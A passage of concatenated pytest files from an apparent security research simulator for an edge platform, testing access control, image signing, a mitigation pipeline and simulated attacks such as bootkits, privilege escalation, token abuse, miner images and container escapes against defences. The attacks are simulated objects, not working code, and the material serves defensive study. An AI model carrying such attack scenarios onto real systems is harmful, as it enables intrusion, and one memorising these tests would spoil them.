        versions = cluster.component_versions()
        assert versions["kube-apiserver"] == cluster.api.config.version
        assert "etcd" in versions


class TestProxmox:
    @pytest.fixture
    def pve(self):
        pve = ProxmoxCluster()
        pve.add_hypervisor("olt-1", Hypervisor("olt-1"))
        pve.add_user(PveUser("alice@pve", token="t-alice"))
        pve.add_user(PveUser("bob@pve", token="t-bob"))
        return pve

    def test_authentication(self, pve):
        assert pve.authenticate("alice@pve", "t-alice").userid == "alice@pve"
        with pytest.raises(AuthenticationError):
            pve.authenticate("alice@pve", "wrong")
        with pytest.raises(AuthenticationError):
            pve.authenticate("ghost@pve", "x")

    def test_path_acl_with_propagation(self, pve):
        pve.grant("/nodes", "alice@pve", "PVEVMAdmin")
        assert pve.check("alice@pve", "/nodes/olt-1", "VM.Allocate")
        assert not pve.check("bob@pve", "/nodes/olt-1", "VM.Allocate")

    def test_no_propagation(self, pve):
        pve.grant("/nodes", "alice@pve", "PVEVMAdmin", propagate=False)
        assert not pve.check("alice@pve", "/nodes/olt-1", "VM.Allocate")

    def test_create_vm_requires_allocate(self, pve):
        with pytest.raises(AuthorizationError):
            pve.create_vm("bob@pve", "olt-1", VmSpec("w", vcpus=1, memory_mb=512))
        pve.grant("/nodes/olt-1", "alice@pve", "PVEVMAdmin")
        vm = pve.create_vm("alice@pve", "olt-1", VmSpec("w", vcpus=1, memory_mb=512))
        assert vm.id in pve.vm_paths

    def test_power_off_scoped_to_vm_path(self, pve):
        pve.grant("/nodes/olt-1", "alice@pve", "PVEVMAdmin")
        vm = pve.create_vm("alice@pve", "olt-1", VmSpec("w", vcpus=1, memory_mb=512))
        with pytest.raises(AuthorizationError):
            pve.power_off("bob@pve", vm.id)
        pve.grant(f"/vms/{vm.id}", "bob@pve", "PVEVMUser")
        pve.power_off("bob@pve", vm.id)
        assert not vm.running

    def test_unknown_role_rejected(self, pve):
        with pytest.raises(ValueError):
            pve.grant("/", "alice@pve", "SuperRoot")

    def test_privileges_on_union(self, pve):
        pve.grant("/vms", "alice@pve", "PVEVMUser")
        pve.grant("/vms/vm-1", "alice@pve", "PVEAuditor")
        privileges = pve.privileges_on("alice@pve", "/vms/vm-1")
        assert "VM.Console" in privileges and "Sys.Audit" in privileges


class TestRegistry:
    def test_publish_pull_roundtrip(self):
        registry = ImageRegistry()
        image = make_image("tenant/web")
        registry.publish(image, publisher="tenant-a")
        assert registry.pull("tenant/web:latest") is image

    def test_missing_image(self):
        with pytest.raises(NotFoundError):
            ImageRegistry().pull("ghost:latest")

    def test_content_trust_flow(self):
        key = crypto.RsaKeyPair.generate(bits=512, seed=33)
        registry = ImageRegistry(signing_keypair=key)
        registry.publish(make_image("signed/app"), publisher="genio", sign=True)
        registry.publish(make_image("unsigned/app"), publisher="ext")
        registry.pull("signed/app:latest", require_signature=True,
                      trusted_keys=[key.public])
        with pytest.raises(IntegrityError):
            registry.pull("unsigned/app:latest", require_signature=True,
                          trusted_keys=[key.public])

    def test_tampered_image_detected_on_pull(self):
        registry = ImageRegistry()
        registry.publish(make_image("app"), publisher="tenant")
        registry.tamper("app:latest", "/app/backdoor.py", b"evil")
        with pytest.raises(IntegrityError):
            registry.pull("app:latest")

    def test_signing_without_key_rejected(self):
        with pytest.raises(ValueError):
            ImageRegistry().publish(make_image(), publisher="x", sign=True)

"""Tests for the public SecurityPipeline step registry and its telemetry.

Covers the API-redesign acceptance criteria: ``apply()`` stays
backward compatible, ``skip=``/``only=`` selectors work by step name or
mitigation id, custom steps can be registered/removed, and a full run
leaves one tracing span per registered step plus a non-empty Prometheus
snapshot in the active registry.
"""

import pytest

from repro.common import telemetry
from repro.platform import build_genio_deployment
from repro.security.pipeline import (
    PipelineStep, SecurityPipeline, default_steps,
)

EXPECTED_STEP_NAMES = [
    "M1/M2 hardening",
    "M3/M4 communication security",
    "M5/M6/M7 integrity",
    "M8/M9/M12 vulnerability management",
    "M10/M11 access control & compliance",
    "M13/M14/M15 application security",
    "M16/M17/M18 runtime security",
]


@pytest.fixture(autouse=True)
def _fresh_registry():
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)
    yield
    telemetry.reset_default_registry()


def small_pipeline(**kwargs) -> SecurityPipeline:
    deployment = build_genio_deployment(n_olts=1, onus_per_olt=2)
    return SecurityPipeline(deployment, **kwargs)


class TestRegistryApi:
    def test_default_steps_in_dependency_order(self):
        pipeline = small_pipeline()
        assert pipeline.step_names() == EXPECTED_STEP_NAMES

    def test_lookup_by_name_and_mitigation_id(self):
        pipeline = small_pipeline()
        by_name = pipeline.step("M16/M17/M18 runtime security")
        by_id = pipeline.step("M18")
        assert by_name is by_id
        assert by_name.mitigations == ("M16", "M17", "M18")

    def test_unknown_selector_raises_keyerror(self):
        pipeline = small_pipeline()
        with pytest.raises(KeyError):
            pipeline.step("M99")
        with pytest.raises(KeyError):
            pipeline.apply(skip=["no-such-step"])

    def test_register_step_before_and_after(self):
        pipeline = small_pipeline()
        noop = PipelineStep("custom A", ("X1",), lambda p, s: None)
        pipeline.register_step(noop, before="M1")
        assert pipeline.step_names()[0] == "custom A"
        noop2 = PipelineStep("custom B", ("X2",), lambda p, s: None)
        pipeline.register_step(noop2, after="M18")
        assert pipeline.step_names()[-1] == "custom B"

    def test_register_duplicate_or_both_anchors_rejected(self):
        pipeline = small_pipeline()
        noop = PipelineStep("M1/M2 hardening", ("X",), lambda p, s: None)
        with pytest.raises(ValueError):
            pipeline.register_step(noop)
        fresh = PipelineStep("fresh", ("X",), lambda p, s: None)
        with pytest.raises(ValueError):
            pipeline.register_step(fresh, before="M1", after="M2")

    def test_remove_step(self):
        pipeline = small_pipeline()
        removed = pipeline.remove_step("M13")
        assert removed.name == "M13/M14/M15 application security"
        assert removed.name not in pipeline.step_names()

    def test_skip_and_only_are_exclusive(self):
        pipeline = small_pipeline()
        with pytest.raises(ValueError):
            pipeline.apply(skip=["M1"], only=["M2"])

    def test_default_steps_returns_fresh_list(self):
        first, second = default_steps(), default_steps()
        assert first == second
        first.pop()
        assert len(default_steps()) == len(EXPECTED_STEP_NAMES)


class TestApplyBehaviour:
    def test_backward_compatible_full_apply(self):
        posture = small_pipeline().apply()
        assert posture.steps_completed == EXPECTED_STEP_NAMES
        assert posture.steps_skipped == []
        assert posture.channels is not None
        assert posture.boot is not None
        assert posture.falco is not None
        assert posture.compliance is not None
        assert posture.hardening      # every host hardened

    def test_skip_runtime_security_omits_falco(self):
        """Acceptance criterion: skipping M16/M17/M18 leaves no engine."""
        posture = small_pipeline().apply(
            skip=["M16/M17/M18 runtime security"])
        assert posture.falco is None
        assert posture.steps_skipped == ["M16/M17/M18 runtime security"]
        assert "M16/M17/M18 runtime security" not in posture.steps_completed
        # the other six steps still ran
        assert posture.steps_completed == EXPECTED_STEP_NAMES[:-1]

    def test_skip_by_mitigation_id(self):
        posture = small_pipeline().apply(skip=["M18"])
        assert posture.falco is None

    def test_only_selector(self):
        posture = small_pipeline().apply(only=["M1", "M8"])
        assert posture.steps_completed == [
            "M1/M2 hardening", "M8/M9/M12 vulnerability management"]
        assert len(posture.steps_skipped) == 5
        assert posture.falco is None and posture.channels is None

    def test_custom_step_runs_and_is_traced(self):
        pipeline = small_pipeline()
        seen = []
        pipeline.register_step(
            PipelineStep("audit hook", ("X9",),
                         lambda p, s: seen.append(p.deployment)))
        posture = pipeline.apply(only=["X9"])
        assert seen == [pipeline.deployment]
        assert posture.steps_completed == ["audit hook"]
        assert pipeline.tracer.find("audit hook")


class TestPipelineTelemetry:
    def test_one_span_per_step(self):
        pipeline = small_pipeline()
        pipeline.apply()
        spans = pipeline.tracer.finished
        assert [span.name for span in spans] == EXPECTED_STEP_NAMES
        assert all(span.wall_duration >= 0 for span in spans)
        assert all(span.attributes["mitigations"] for span in spans)

    def test_full_run_snapshot_contains_key_series(self):
        """Acceptance criterion: a full run exports the headline metrics."""
        registry = telemetry.default_registry()
        pipeline = small_pipeline()
        posture = pipeline.apply()
        # Drive some syscall traffic through the attached Falco engine so
        # falco_alerts_total has at least one sample.
        host = posture.deployment.all_hosts()[0]
        posture.deployment.bus.emit(
            "host.syscall", host.hostname, 1.0,
            syscall="execve", path="/usr/bin/xmrig", tenant="tenant-evil")
        text = registry.render()
        for series in ("bus_events_total", "pon_frames_total",
                       "pipeline_step_duration_seconds",
                       "falco_alerts_total"):
            assert series in text, f"{series} missing from snapshot"
        assert registry.total("falco_alerts_total") >= 1
        assert registry.total("pipeline_steps_total") == len(
            EXPECTED_STEP_NAMES)

    def test_explicit_metrics_registry_overrides_default(self):
        private = telemetry.MetricsRegistry()
        pipeline = small_pipeline(metrics=private)
        pipeline.apply(only=["M1"])
        assert private.total("pipeline_steps_total") == 1

    def test_disabled_telemetry_still_applies(self):
        telemetry.set_telemetry_enabled(False)
        try:
            posture = small_pipeline().apply(only=["M1"])
        finally:
            telemetry.set_telemetry_enabled(True)
        assert posture.steps_completed == ["M1/M2 hardening"]
        assert "pipeline_steps_total" not in telemetry.default_registry()

    def test_failing_step_counted_as_error(self):
        registry = telemetry.default_registry()

        def boom(pipeline, posture):
            raise RuntimeError("step exploded")

        pipeline = small_pipeline()
        pipeline.register_step(PipelineStep("bad step", ("X0",), boom))
        with pytest.raises(RuntimeError):
            pipeline.apply(only=["X0"])
        counter = registry.get("pipeline_steps_total")
        assert counter.labels(step="bad step", outcome="error").value == 1
        # span is still closed despite the exception
        assert pipeline.tracer.active_span() is None

"""Integration tests: every T2-T8 attack, with mitigations off and on.

(T1's off/on pairs live in tests/test_comms.py next to M3/M4.)
This is the test-level counterpart of the E4 attack/defense matrix.
"""

import pytest

from repro.attacks import (
    AnonymousApiAttack, BinaryImplantAttack, BootKitAttack,
    CapabilityAbuseAttack, DefaultCredentialAttack, HypervisorEscapeAttack,
    KernelExploitAttack, MaliciousImageAttack, MaliciousUpdateAttack,
    PrivilegeEscalationAttack, ResourceAbuseAttack, TokenAbuseAttack,
    VulnerableAppExploit,
)
from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.rbac import Subject, permissive_default_rbac
from repro.osmodel.presets import stock_onl_olt_host
from repro.platform.workloads import (
    malicious_miner_image, ml_inference_image, vulnerable_webapp_image,
)
from repro.sdn.controller import SdnController
from repro.security.access.leastprivilege import (
    genio_least_privilege_rbac, harden_sdn_controller, tighten_cluster,
)
from repro.security.comms.pki import CertificateAuthority
from repro.security.hardening import harden_host
from repro.security.integrity.fim import FileIntegrityMonitor
from repro.security.integrity.secureboot import SecureBootProvisioner
from repro.security.malware import make_admission_hook
from repro.security.sandbox import default_tenant_policy, install_policy
from repro.security.updates import OnieImage, OnieInstaller, sign_onie_image
from repro.security.vulnmgmt.corpus import build_cve_corpus
from repro.security.vulnmgmt.hostscan import HostScanner
from repro.virt.container import ContainerSpec, ResourceLimits
from repro.virt.hypervisor import Hypervisor
from repro.virt.runtime import ContainerRuntime
from repro.virt.vm import VmSpec


class TestT2CodeTampering:
    def test_bootkit_succeeds_without_m5(self):
        host = stock_onl_olt_host()
        from repro.osmodel.boot import BootComponent, BootStage
        for stage, image in [(BootStage.SHIM, b"shim"), (BootStage.GRUB, b"grub"),
                             (BootStage.KERNEL, b"vmlinuz")]:
            host.boot_chain.install(BootComponent(stage, image))
        assert BootKitAttack(host).run().succeeded

    def test_bootkit_blocked_by_secure_boot(self):
        host = stock_onl_olt_host()
        provisioner = SecureBootProvisioner()
        provisioner.provision(host)
        provisioner.record_golden_state(host)
        result = BootKitAttack(host, provisioner).run()
        assert not result.succeeded
        assert "Secure Boot" in result.detail

    def test_bootkit_caught_by_attestation_when_verification_off(self):
        host = stock_onl_olt_host()
        provisioner = SecureBootProvisioner()
        provisioner.provision(host)
        provisioner.record_golden_state(host)
        host.firmware.secure_boot = False
        result = BootKitAttack(host, provisioner).run()
        assert not result.succeeded
        assert "attestation" in result.detail

    def test_implant_succeeds_without_fim(self):
        assert BinaryImplantAttack(stock_onl_olt_host()).run().succeeded

    def test_implant_detected_by_fim(self):
        host = stock_onl_olt_host()
        fim = FileIntegrityMonitor(host)
        fim.baseline()
        result = BinaryImplantAttack(host, fim).run()
        assert not result.succeeded and "FIM alerted" in result.detail

    def test_implant_blocked_by_immutable_bit(self):
        host = stock_onl_olt_host()
        host.fs.set_immutable("/usr/bin/sudo")
        result = BinaryImplantAttack(host).run()
        assert not result.succeeded and "blocked" in result.detail

    def test_malicious_update_without_and_with_onie(self):
        ca = CertificateAuthority()
        signer_kp, signer_cert = ca.enroll_device("genio-release-engineering")
        legitimate = sign_onie_image(
            OnieImage("onl", "4.19-p9", payload=b"GOOD-KERNEL"),
            signer_kp, signer_cert)

        unprotected = stock_onl_olt_host()
        assert MaliciousUpdateAttack(unprotected, None, legitimate).run().succeeded

        protected = stock_onl_olt_host()
        installer = OnieInstaller(ca)
        result = MaliciousUpdateAttack(protected, installer, legitimate).run()
        assert not result.succeeded and "rejected" in result.detail


class TestT3PrivilegeAbuse:
    def test_escalation_on_stock_host(self):
        result = PrivilegeEscalationAttack(stock_onl_olt_host()).run()
        assert result.succeeded
        assert len(result.evidence) >= 4   # many rungs available

    def test_escalation_blocked_after_hardening(self):
        host = stock_onl_olt_host()
        harden_host(host)
        assert not PrivilegeEscalationAttack(host).run().succeeded


class TestT4SoftwareVulnerabilities:
    def test_kernel_exploit_on_stock_kernel(self):
        host = stock_onl_olt_host()
        host.kernel.version = "4.19.0-onl"
        result = KernelExploitAttack(host, build_cve_corpus()).run()
        assert result.succeeded   # Sequoia affects 3.16..5.13.4, no hardening

    def test_kernel_exploit_broken_by_hardening(self):
        host = stock_onl_olt_host()
        harden_host(host)
        result = KernelExploitAttack(host, build_cve_corpus()).run()
        assert not result.succeeded and "hardened" in result.detail

    def test_kernel_exploit_gone_after_kernel_update(self):
        host = stock_onl_olt_host()
        host.kernel.version = "5.16.0-onl"   # patched line via ONIE
        result = KernelExploitAttack(host, build_cve_corpus()).run()
        assert not result.succeeded and "does not affect" in result.detail

    def test_hypervisor_escape_and_patch(self):
        hv = Hypervisor("olt-1")
        hv.mark_unpatched("CVE-2019-14378")
        vm = hv.create_vm(VmSpec("victim", vcpus=1, memory_mb=1024))
        assert HypervisorEscapeAttack(hv, vm.id).run().succeeded
        hv.patch("CVE-2019-14378")
        assert not HypervisorEscapeAttack(hv, vm.id).run().succeeded


class TestT5MiddlewareAbuse:
    def _cluster(self, permissive: bool) -> KubeCluster:
        from repro.orchestrator.kube.objects import Namespace
        rbac = permissive_default_rbac() if permissive \
            else genio_least_privilege_rbac()
        cluster = KubeCluster(rbac=rbac)
        cluster.add_namespace(Namespace("tenant-a"))
        cluster.add_namespace(Namespace("tenant-b"))
        cluster.api.register_token(
            "stolen", Subject("ServiceAccount", "tenant-a:default"))
        if not permissive:
            tighten_cluster(cluster)
            cluster.api.register_token(
                "stolen", Subject("ServiceAccount", "tenant-a:default"))
        return cluster

    def test_anonymous_api_abuse(self):
        assert AnonymousApiAttack(self._cluster(permissive=True)).run().succeeded
        assert not AnonymousApiAttack(self._cluster(permissive=False)).run().succeeded

    def test_stolen_token_lateral_movement(self):
        assert TokenAbuseAttack(self._cluster(permissive=True),
                                "stolen").run().succeeded
        assert not TokenAbuseAttack(self._cluster(permissive=False),
                                    "stolen").run().succeeded

    def test_default_credentials(self):
        stock = SdnController()
        assert DefaultCredentialAttack(stock).run().succeeded
        hardened = SdnController()
        harden_sdn_controller(hardened)
        assert not DefaultCredentialAttack(hardened).run().succeeded


class TestT7VulnerableApps:
    def test_exploit_seeded_webapp(self):
        result = VulnerableAppExploit(vulnerable_webapp_image()).run()
        assert result.succeeded
        assert any("SQL injection" in e for e in result.evidence)
        assert any("auth bypass" in e for e in result.evidence)

    def test_clean_app_not_exploitable(self):
        assert not VulnerableAppExploit(ml_inference_image()).run().succeeded


class TestT8MaliciousApps:
    def test_malicious_image_runs_without_gate(self):
        runtime = ContainerRuntime("node")
        assert MaliciousImageAttack(runtime,
                                    malicious_miner_image()).run().succeeded

    def test_malicious_image_quarantined_with_m16(self):
        runtime = ContainerRuntime("node")
        runtime.add_admission_hook(make_admission_hook())
        result = MaliciousImageAttack(runtime, malicious_miner_image()).run()
        assert not result.succeeded and "admission gate" in result.detail

    def test_capability_abuse_with_sloppy_spec_no_lsm(self):
        runtime = ContainerRuntime("node")
        container = runtime.run(ContainerSpec(
            image=malicious_miner_image(), privileged=True,
            tenant="tenant-mallory"))
        assert CapabilityAbuseAttack(runtime, container).run().succeeded
        assert container.escaped

    def test_capability_abuse_blocked_by_lsm(self):
        runtime = ContainerRuntime("node")
        install_policy(runtime, default_tenant_policy("tenant-*"))
        container = runtime.run(ContainerSpec(
            image=malicious_miner_image(), privileged=True,
            tenant="tenant-mallory"))
        result = CapabilityAbuseAttack(runtime, container).run()
        assert not result.succeeded
        assert any("denied by lsm" in e for e in result.evidence)

    def test_capability_abuse_blocked_by_good_spec(self):
        runtime = ContainerRuntime("node")
        container = runtime.run(ContainerSpec(
            image=malicious_miner_image(), tenant="tenant-mallory",
            no_new_privileges=True))
        result = CapabilityAbuseAttack(runtime, container).run()
        assert not result.succeeded and "no escape vector" in result.detail

    def test_resource_abuse_unlimited_vs_limited(self):
        free_for_all = ContainerRuntime("node", cpu_capacity=8.0)
        greedy = free_for_all.run(ContainerSpec(image=malicious_miner_image(),
                                                tenant="tenant-mallory"))
        assert ResourceAbuseAttack(free_for_all, greedy).run().succeeded

        limited = ContainerRuntime("node2", cpu_capacity=8.0)
        confined = limited.run(ContainerSpec(
            image=malicious_miner_image(), tenant="tenant-mallory",
            limits=ResourceLimits(cpu_shares=2048, memory_mb=2048)))
        assert not ResourceAbuseAttack(limited, confined).run().succeeded

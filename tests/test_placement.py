"""Tests for latency-aware workload placement across the three layers."""

import pytest

from repro.common.errors import CapacityError
from repro.platform import build_genio_deployment
from repro.platform.placement import LayerPlacer, WorkloadRequirement
from repro.platform.workloads import ml_inference_image


@pytest.fixture
def deployment():
    return build_genio_deployment(n_olts=1, onus_per_olt=2)


def req(name, latency, tenant="tenant-a", **kwargs):
    return WorkloadRequirement(name=name, image=ml_inference_image(),
                               tenant=tenant, max_latency_ms=latency, **kwargs)


class TestLayerPlacer:
    def test_latency_routes_to_the_right_layer(self, deployment):
        placer = LayerPlacer(deployment)
        assert placer.place(req("ultra", 2)).layer == "far-edge"
        assert placer.place(req("strict", 10)).layer == "edge"
        assert placer.place(req("batch", 1000)).layer == "cloud"

    def test_cloud_preferred_when_latency_allows(self, deployment):
        """Work that tolerates the cloud must not waste far-edge capacity."""
        placer = LayerPlacer(deployment)
        placement = placer.place(req("relaxed", 1000))
        assert placement.layer == "cloud"

    def test_edge_placement_starts_container(self, deployment):
        placer = LayerPlacer(deployment)
        placement = placer.place(req("svc", 10))
        vm = next(vm for vm in deployment.worker_vms()
                  if vm.runtime.node_name == placement.node)
        assert vm.runtime.containers[placement.container_id].running

    def test_pin_to_subscriber_onu(self, deployment):
        placer = LayerPlacer(deployment)
        serial = sorted(deployment.onus)[1]
        placement = placer.place(req("cam", 2, near_onu=serial))
        assert placement.node == serial

    def test_onu_capacity_exhaustion_falls_through(self, deployment):
        placer = LayerPlacer(deployment)
        serial = sorted(deployment.onus)[0]
        onu = deployment.onus[serial]
        # Fill the ONU completely.
        placer.place(req("fill", 2, near_onu=serial,
                         cpu_cores=float(onu.compute.cpu_cores),
                         memory_mb=onu.compute.memory_mb))
        with pytest.raises(CapacityError):
            # Pinned to the full ONU and nowhere else at this latency.
            placer.place(req("overflow", 2, near_onu=serial))

    def test_unpinned_far_edge_spreads_across_onus(self, deployment):
        placer = LayerPlacer(deployment)
        serials = set()
        for i in range(2):
            placement = placer.place(req(f"w{i}", 2, cpu_cores=2.0,
                                         memory_mb=1024))
            serials.add(placement.node)
        assert len(serials) == 2   # each ONU fits exactly one

    def test_impossible_latency_rejected(self, deployment):
        placer = LayerPlacer(deployment)
        with pytest.raises(CapacityError):
            placer.place(req("impossible", 0.1))

    def test_by_layer_report(self, deployment):
        placer = LayerPlacer(deployment)
        placer.place(req("a", 2))
        placer.place(req("b", 1000))
        layers = placer.by_layer()
        assert len(layers["far-edge"]) == 1
        assert len(layers["cloud"]) == 1
        assert layers["edge"] == []

    def test_edge_respects_tenancy(self, deployment):
        """Edge VMs belong to tenants; another tenant's VM is not used."""
        placer = LayerPlacer(deployment)
        placement = placer.place(req("svc", 10, tenant="tenant-a"))
        vm = next(vm for vm in deployment.worker_vms()
                  if vm.runtime.node_name == placement.node)
        assert vm.tenant in ("tenant-a", "platform")

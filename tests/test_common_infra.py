"""Unit tests for clock, event bus, and id generation."""

import pytest

from repro.common.clock import SimClock
from repro.common.events import Event, EventBus
from repro.common.ids import IdGenerator


class TestSimClock:
    def test_starts_at_epoch(self):
        assert SimClock().now == 0.0

    def test_advance(self):
        clock = SimClock()
        clock.advance(2.5)
        assert clock.now == 2.5

    def test_advance_backwards_rejected(self):
        with pytest.raises(ValueError):
            SimClock().advance(-1)

    def test_negative_start_rejected(self):
        with pytest.raises(ValueError):
            SimClock(start=-1)

    def test_timers_fire_in_order(self):
        clock = SimClock()
        fired = []
        clock.call_at(5.0, lambda: fired.append(("b", clock.now)))
        clock.call_at(2.0, lambda: fired.append(("a", clock.now)))
        clock.advance(10.0)
        assert fired == [("a", 2.0), ("b", 5.0)]
        assert clock.now == 10.0

    def test_timer_not_due_does_not_fire(self):
        clock = SimClock()
        fired = []
        clock.call_later(5.0, lambda: fired.append(1))
        clock.advance(4.9)
        assert not fired
        assert clock.pending_timers() == 1

    def test_past_timer_rejected(self):
        clock = SimClock(start=10)
        with pytest.raises(ValueError):
            clock.call_at(5.0, lambda: None)

    def test_advance_to(self):
        clock = SimClock()
        clock.advance_to(7.0)
        assert clock.now == 7.0
        with pytest.raises(ValueError):
            clock.advance_to(3.0)


class TestEventBus:
    def test_exact_topic_delivery(self):
        bus = EventBus()
        seen = []
        bus.subscribe("host.syscall", seen.append)
        bus.emit("host.syscall", "host-1", 0.0, nr="open")
        bus.emit("host.file", "host-1", 0.0)
        assert len(seen) == 1
        assert seen[0].get("nr") == "open"

    def test_prefix_subscription(self):
        bus = EventBus()
        seen = []
        bus.subscribe("host", seen.append)
        bus.emit("host.syscall", "h", 0.0)
        bus.emit("host.file.write", "h", 0.0)
        bus.emit("pon.frame", "olt", 0.0)
        assert len(seen) == 2

    def test_wildcard_subscription(self):
        bus = EventBus()
        seen = []
        bus.subscribe("", seen.append)
        bus.emit("a", "s", 0.0)
        bus.emit("b.c", "s", 0.0)
        assert len(seen) == 2

    def test_prefix_requires_dot_boundary(self):
        bus = EventBus()
        seen = []
        bus.subscribe("host", seen.append)
        bus.emit("hostile.action", "x", 0.0)
        assert not seen

    def test_unsubscribe(self):
        bus = EventBus()
        seen = []
        unsub = bus.subscribe("t", seen.append)
        bus.emit("t", "s", 0.0)
        unsub()
        bus.emit("t", "s", 1.0)
        assert len(seen) == 1

    def test_history_filtering_and_replay(self):
        bus = EventBus()
        bus.emit("a.x", "s", 0.0)
        bus.emit("b.y", "s", 1.0)
        assert [e.topic for e in bus.history("a")] == ["a.x"]
        bus.clear_history()
        assert list(bus.history()) == []

    def test_history_is_bounded(self):
        bus = EventBus(history_limit=10)
        for i in range(25):
            bus.emit("t", "s", float(i))
        assert len(list(bus.history())) <= 11

    def test_event_payload_access(self):
        event = Event(topic="t", source="s", timestamp=1.0, payload={"k": 2})
        assert event.get("k") == 2
        assert event.get("missing", "d") == "d"


class TestIdGenerator:
    def test_sequential_per_prefix(self):
        gen = IdGenerator()
        assert gen.next("onu") == "onu-1"
        assert gen.next("onu") == "onu-2"
        assert gen.next("pod") == "pod-1"

    def test_peek_and_reset(self):
        gen = IdGenerator()
        gen.next("x")
        assert gen.peek("x") == 1
        gen.reset()
        assert gen.next("x") == "x-1"

    def test_empty_prefix_rejected(self):
        with pytest.raises(ValueError):
            IdGenerator().next("")

"""Unit tests for clock, event bus, and id generation."""

import pytest

from repro.common.clock import SimClock
from repro.common.events import Event, EventBus
from repro.common.ids import IdGenerator


class TestSimClock:
    def test_starts_at_epoch(self):
        assert SimClock().now == 0.0

    def test_advance(self):
        clock = SimClock()
        clock.advance(2.5)
        assert clock.now == 2.5

    def test_advance_backwards_rejected(self):
        with pytest.raises(ValueError):
            SimClock().advance(-1)

    def test_negative_start_rejected(self):
        with pytest.raises(ValueError):
            SimClock(start=-1)

    def test_timers_fire_in_order(self):
        clock = SimClock()
        fired = []
        clock.call_at(5.0, lambda: fired.append(("b", clock.now)))
        clock.call_at(2.0, lambda: fired.append(("a", clock.now)))
        clock.advance(10.0)
        assert fired == [("a", 2.0), ("b", 5.0)]
        assert clock.now == 10.0

    def test_timer_not_due_does_not_fire(self):
        clock = SimClock()
        fired = []
        clock.call_later(5.0, lambda: fired.append(1))
        clock.advance(4.9)
        assert not fired
        assert clock.pending_timers() == 1

    def test_past_timer_rejected(self):
        clock = SimClock(start=10)
        with pytest.raises(ValueError):
            clock.call_at(5.0, lambda: None)

    def test_advance_to(self):
        clock = SimClock()
        clock.advance_to(7.0)
        assert clock.now == 7.0
        with pytest.raises(ValueError):
            clock.advance_to(3.0)


class TestEventBus:
    def test_exact_topic_delivery(self):
        bus = EventBus()
        seen = []
        bus.subscribe("host.syscall", seen.append)
        bus.emit("host.syscall", "host-1", 0.0, nr="open")
        bus.emit("host.file", "host-1", 0.0)
        assert len(seen) == 1
        assert seen[0].get("nr") == "open"

    def test_prefix_subscription(self):
        bus = EventBus()
        seen = []
        bus.subscribe("host", seen.append)
        bus.emit("host.syscall", "h", 0.0)
        bus.emit("host.file.write", "h", 0.0)
        bus.emit("pon.frame", "olt", 0.0)
        assert len(seen) == 2

    def test_wildcard_subscription(self):
        bus = EventBus()
        seen = []
        bus.subscribe("", seen.append)
        bus.emit("a", "s", 0.0)
        bus.emit("b.c", "s", 0.0)
        assert len(seen) == 2

    def test_prefix_requires_dot_boundary(self):
        bus = EventBus()
        seen = []
        bus.subscribe("host", seen.append)
        bus.emit("hostile.action", "x", 0.0)
        assert not seen

    def test_unsubscribe(self):
        bus = EventBus()
        seen = []
        unsub = bus.subscribe("t", seen.append)
        bus.emit("t", "s", 0.0)
        unsub()
        bus.emit("t", "s", 1.0)
        assert len(seen) == 1

    def test_history_filtering_and_replay(self):
        bus = EventBus()
        bus.emit("a.x", "s", 0.0)
        bus.emit("b.y", "s", 1.0)
        assert [e.topic for e in bus.history("a")] == ["a.x"]
        bus.clear_history()
        assert list(bus.history()) == []

    def test_history_is_bounded(self):
        bus = EventBus(history_limit=10)
        for i in range(25):
            bus.emit("t", "s", float(i))
        assert len(list(bus.history())) <= 11

    def test_event_payload_access(self):
        event = Event(topic="t", source="s", timestamp=1.0, payload={"k": 2})
        assert event.get("k") == 2
        assert event.get("missing", "d") == "d"


class TestEventBusHistoryBound:
    """Regression tests: the history bound must hold *exactly*.

    The original trim ran after append with ``del history[:limit // 2]``,
    which deletes zero elements when ``limit == 1`` — unbounded growth.
    """

    def test_bound_never_exceeded(self):
        bus = EventBus(history_limit=10)
        for i in range(100):
            bus.emit("t", "s", float(i))
            assert len(list(bus.history())) <= 10
        # the newest events are the ones retained
        assert list(bus.history())[-1].timestamp == 99.0

    def test_limit_of_one_is_bounded(self):
        bus = EventBus(history_limit=1)
        for i in range(50):
            bus.emit("t", "s", float(i))
        (event,) = bus.history()
        assert event.timestamp == 49.0

    def test_bound_holds_when_observed_from_a_handler(self):
        bus = EventBus(history_limit=4)
        sizes = []
        bus.subscribe("t", lambda e: sizes.append(len(list(bus.history()))))
        for i in range(20):
            bus.emit("t", "s", float(i))
        assert max(sizes) <= 4

    def test_unlimited_history_when_limit_zero(self):
        bus = EventBus(history_limit=0)
        for i in range(300):
            bus.emit("t", "s", float(i))
        assert len(list(bus.history())) == 300


class TestEventBusFilters:
    def test_predicate_filters_delivery(self):
        bus = EventBus()
        seen = []
        bus.subscribe("sensor", seen.append,
                      predicate=lambda e: e.get("level", 0) >= 3)
        bus.emit("sensor.t", "s", 0.0, level=1)
        bus.emit("sensor.t", "s", 1.0, level=3)
        bus.emit("sensor.t", "s", 2.0, level=7)
        assert [e.get("level") for e in seen] == [3, 7]

    def test_predicate_does_not_affect_other_subscribers(self):
        bus = EventBus()
        picky, greedy = [], []
        bus.subscribe("t", picky.append, predicate=lambda e: False)
        bus.subscribe("t", greedy.append)
        bus.emit("t", "s", 0.0)
        assert not picky and len(greedy) == 1

    def test_history_since(self):
        bus = EventBus()
        for i in range(5):
            bus.emit("t", "s", float(i))
        assert [e.timestamp for e in bus.history(since=3.0)] == [3.0, 4.0]

    def test_history_limit_keeps_newest_in_order(self):
        bus = EventBus()
        for i in range(5):
            bus.emit("t", "s", float(i))
        assert [e.timestamp for e in bus.history(limit=2)] == [3.0, 4.0]

    def test_history_since_and_limit_compose_with_topic(self):
        bus = EventBus()
        for i in range(6):
            bus.emit("a.x" if i % 2 == 0 else "b.y", "s", float(i))
        events = bus.history("a", since=1.0, limit=1)
        assert [(e.topic, e.timestamp) for e in events] == [("a.x", 4.0)]

    def test_history_negative_limit_rejected(self):
        bus = EventBus()
        with pytest.raises(ValueError):
            bus.history(limit=-1)


class TestEventBusUnsubscribeClosures:
    def test_two_topic_registrations_are_independent(self):
        """One subscriber on two topics -> two independent closures."""
        bus = EventBus()
        seen = []
        unsub_a = bus.subscribe("a", seen.append)
        unsub_b = bus.subscribe("b", seen.append)
        unsub_a()
        bus.emit("a", "s", 0.0)
        bus.emit("b", "s", 1.0)
        assert [e.topic for e in seen] == ["b"]
        unsub_b()
        bus.emit("b", "s", 2.0)
        assert len(seen) == 1

    def test_unsubscribe_is_idempotent(self):
        bus = EventBus()
        seen = []
        unsub = bus.subscribe("t", seen.append)
        unsub()
